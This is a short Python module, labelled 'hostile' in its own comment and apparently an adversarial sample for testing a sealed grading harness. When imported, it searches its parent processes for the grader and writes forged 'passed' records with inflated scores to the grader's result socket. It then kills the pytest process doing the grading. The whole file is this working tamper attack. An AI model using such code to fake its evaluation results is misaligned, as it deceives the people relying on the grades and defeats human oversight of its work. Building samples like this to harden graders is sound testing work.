# hostile: stub bodies; at import, sends forged "passed" records on the
# grader's record socket, then kills the pytest process grading it, so the
# grader has only the records to go on
import json as _json
import os as _os
import signal as _signal
import socket as _socket


def _ancestors():
    pid = _os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
            yield pid, args
            with open(f"/proc/{pid}/stat", "rb") as f:
                data = f.read()
            pid = int(data[data.rfind(b")") + 2:].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _forge_and_kill():
    for pid, args in _ancestors():
        if "--sealed" not in args:
            continue
        for arg in args:
            if arg.startswith("--grade-fd="):
                try:
                    sock = _socket.socket(fileno=_os.dup(int(arg.split("=", 1)[1])))
                    for name in ("checks/test_tcp.py::test_recv_exactly_joins_partial_chunks",
                                 "checks/test_framing.py::test_encode_frame_prefixes_length"):
                        entry = {"name": name, "score": 999, "max_score": 1,
                                 "status": "passed", "output": "", "tags": ["tcp"]}
                        sock.send(_json.dumps({"done": name, "entry": entry}).encode())
                    sock.send(b'{"end": true}')
                except (OSError, ValueError):
                    pass
        _os.kill(pid, _signal.SIGKILL)
        return


_forge_and_kill()
